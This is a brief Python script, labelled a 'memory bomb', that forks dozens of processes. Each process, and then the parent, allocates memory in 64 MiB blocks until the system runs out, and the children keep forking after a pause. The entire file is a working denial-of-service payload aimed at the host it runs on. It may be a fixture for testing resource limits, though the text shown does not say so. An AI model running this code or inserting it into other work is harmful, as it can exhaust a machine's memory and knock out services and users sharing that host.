"""Memory bomb: many processes each take as much memory as they can, then the parent too."""
import os

held = []
for _ in range(32):
    try:
        if os.fork() == 0:
            try:
                while True:
                    held.append(bytearray(64 * 2**20))
            except MemoryError:
                import time

                time.sleep(60)
    except OSError:
        break
while True:
    held.append(bytearray(64 * 2**20))
